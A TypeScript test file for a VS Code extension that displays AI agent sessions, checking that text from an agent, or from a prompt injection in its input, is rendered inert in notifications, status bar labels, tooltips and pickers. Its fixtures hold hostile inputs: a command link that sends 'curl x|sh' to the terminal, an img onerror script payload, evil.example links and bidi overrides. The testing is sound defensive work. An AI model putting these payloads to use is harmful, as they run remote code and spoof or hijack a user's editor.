import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { notices, panelTitle, pickTexts, statusTexts, statusTooltip, treeTexts } from '../../src/host/texts';
import type { AgentRequest, SessionCommand } from '../../src/shared/commands';
import { labelText, markdownText, notificationText, oneLine } from '../../src/shared/untrusted';

// What an agent (or a prompt injection in its input) may put into any text we show.
const LINK = '[Run tests](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
const HOSTILE = `done ${LINK} $(alert) [site](https://evil.example) <img src=x onerror=alert(1)>\n\n## Heading\n* item https://autolink.example \u202eevil\u202c \u0007bell`;

/** How VS Code finds links in a notification's message (vs/base/common/linkedText.ts, as documented there). */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
/** How VS Code finds an icon in a label: `$(name)` not preceded by a backslash. */
const ICON = /(?<!\\)\$\([A-Za-z0-9-]+(?:~[A-Za-z]+)?\)/;
const markdown = new MarkdownIt({ html: true, linkify: true });

function assertPlainNotification(text: string): void {
  assert.doesNotMatch(text, NOTIFICATION_LINK, `a link in: ${text}`);
  assert.doesNotMatch(text, /[\n\r\u202e]/);
  assert.ok(![...text].some((c) => c.charCodeAt(0) < 0x20), 'no control characters');
}
function assertPlainLabel(text: string, ours = 0): void {
  const icons = text.match(new RegExp(ICON.source, 'g')) ?? [];
  assert.equal(icons.length, ours, `icons in: ${text}`);
  assert.doesNotMatch(text, /[\n\r\u202e]/);
  assert.ok(![...text].some((c) => c.charCodeAt(0) < 0x20), 'no control characters');
}
/** Rendered as a MarkdownString would be: no link, image, HTML, heading or list of the agent's, no icon. */
function assertPlainMarkdown(md: string, ourIcons: number, ourLinks = 0): void {
  const html = markdown.render(md.replace(/\$\([a-z-]+\)/g, (m) => m)); // our own icons stay as written
  assert.equal((html.match(/<a /g) ?? []).length, ourLinks, `links in: ${html}`);
  assert.doesNotMatch(html, /<img|<h\d|<li|<b>/, html);
  // After Markdown, VS Code turns `$(name)` into icons: only ours may be left.
  const text = html.replace(/<[^>]+>/g, '');
  assert.equal((text.match(new RegExp(ICON.source, 'g')) ?? []).length, ourIcons, `icons in: ${text}`);
}

const request: AgentRequest = { id: 'r1', kind: 'approval', tool: 'Bash', title: `Bash: ${LINK} $(alert)`, detail: `npm test\n${LINK}`, at: '2026-12-04T00:00:00Z' };
const command: SessionCommand = { id: 'c1', sessionId: 's1', kind: 'stop', body: null, agentRequestId: null, createdBy: null, createdByName: 'ada', createdBySession: null, inputHash: null, createdAt: '', claimedAt: '', handledAt: '', outcome: 'refused', reason: HOSTILE };
const session = { id: '5f7c0d2e-0000-4000-8000-000000000000', title: HOSTILE, state: 'waiting', created_at: '2026-12-04T00:00:00Z', cwd: '/tmp/a\n\n## owned [x](https://evil.example) <b>b</b>' };

describe('untrusted text in VS Code’s own UI', () => {
  it('one line: controls become a space, bidirectional overrides go, long text is cut', () => {
    assert.equal(oneLine('a\n\nb\tc\u0085d\u202ee'), 'a b c de');
    assert.equal(oneLine('x'.repeat(10), 5), 'xxxx…');
    assert.equal(oneLine(undefined), '');
  });

  it('notifications: a command link reads the same and is no link', () => {
    const text = notificationText(LINK);
    assertPlainNotification(text);
    assert.equal(text.replace(/\u200b/g, ''), LINK);
  });

  it('labels: $(name) is shown as written, not as an icon', () => {
    assertPlainLabel(labelText('$(alert) stop $(sync~spin)'));
  });

  it('markdown: nothing of the text becomes Markdown, HTML, an autolink or an icon', () => {
    assertPlainMarkdown(markdownText(HOSTILE, 2000), 0);
    assertPlainMarkdown(markdownText('$(alert) www.example.com a_b_ *c* `d` \\e &amp; 1. x'), 0);
  });

  describe('each sink', () => {
    it('completion, failure and command notifications', () => {
      for (const text of [notices.completed(HOSTILE, HOSTILE, undefined), notices.failed(HOSTILE, HOSTILE, undefined), notices.commandProblem(HOSTILE, HOSTILE), notices.outcome(HOSTILE, command), notices.needsYou(HOSTILE, request), notices.noAnswer(HOSTILE, 'stop'), notices.notSteerable(HOSTILE, 'completed', 'over'), notices.stopConfirm(HOSTILE), notices.error(HOSTILE), notices.exporting(HOSTILE), notices.tooLargeForClipboard(HOSTILE, 4)]) {
        assertPlainNotification(text);
      }
    });

    it('file notifications', () => {
      for (const text of [notices.fileRefused(HOSTILE, HOSTILE), notices.fileMissing(HOSTILE, HOSTILE), notices.fileNotInGit(HOSTILE)]) assertPlainNotification(text);
    });

    it('status bar text and status bar messages (only our icon)', () => {
      assertPlainLabel(statusTexts.watching(HOSTILE, '$(alert)'), 1);
      assertPlainLabel(statusTexts.needsYou(HOSTILE), 1);
      assertPlainLabel(statusTexts.outcome(command), 1);
      assertPlainLabel(statusTexts.deleted(HOSTILE), 1);
    });

    it('status bar tooltip (Markdown, only our icons and our one link)', () => {
      const md = statusTooltip({ title: HOSTILE, state: 'waiting', connection: 'joined', reason: HOSTILE, events: 3, joins: 1, viewers: [HOSTILE], requests: [request], click: 'Click.' });
      assertPlainMarkdown(md, 3, 1);
      assert.match(md, /\[Watch another session\]\(command:sessionStream\.selectSession\)$/);
    });

    it('quick picks and input box titles', () => {
      const item = pickTexts.session(session, 'bell-dot', 'just now', 'Claude Code');
      assertPlainLabel(item.label, 1);
      assertPlainLabel(item.detail);
      const plain = pickTexts.plainSession(session);
      assertPlainLabel(plain.label);
      const r = pickTexts.request(request);
      assertPlainLabel(r.label);
      assertPlainLabel(r.detail ?? '');
      for (const title of [pickTexts.requestDescription(request), pickTexts.menuTitle(HOSTILE, 'waiting'), pickTexts.denyTitle(request), pickTexts.replyTitle(request), pickTexts.messageTitle(HOSTILE), pickTexts.copyLinkTitle(HOSTILE)]) assertPlainLabel(title);
    });

    it('the Sessions view: label, description and a tooltip whose folder has newlines in it', () => {
      assert.doesNotMatch(treeTexts.label(HOSTILE), /[\n\u202e]/);
      const md = treeTexts.tooltip(session, 'Claude Code', [request]);
      assertPlainMarkdown(md, 1);
      // The folder stays one line of the tooltip, as written.
      const html = markdown.render(md);
      assert.match(html.replace(/<[^>]+>/g, ''), /in \/tmp\/a ## owned \[x\]\(https:\/\/evil\.example\) &lt;b&gt;b&lt;\/b&gt;/);
    });

    it('a timeline tab title', () => {
      assert.doesNotMatch(panelTitle(HOSTILE), /[\n\u202e]/);
    });
  });
});
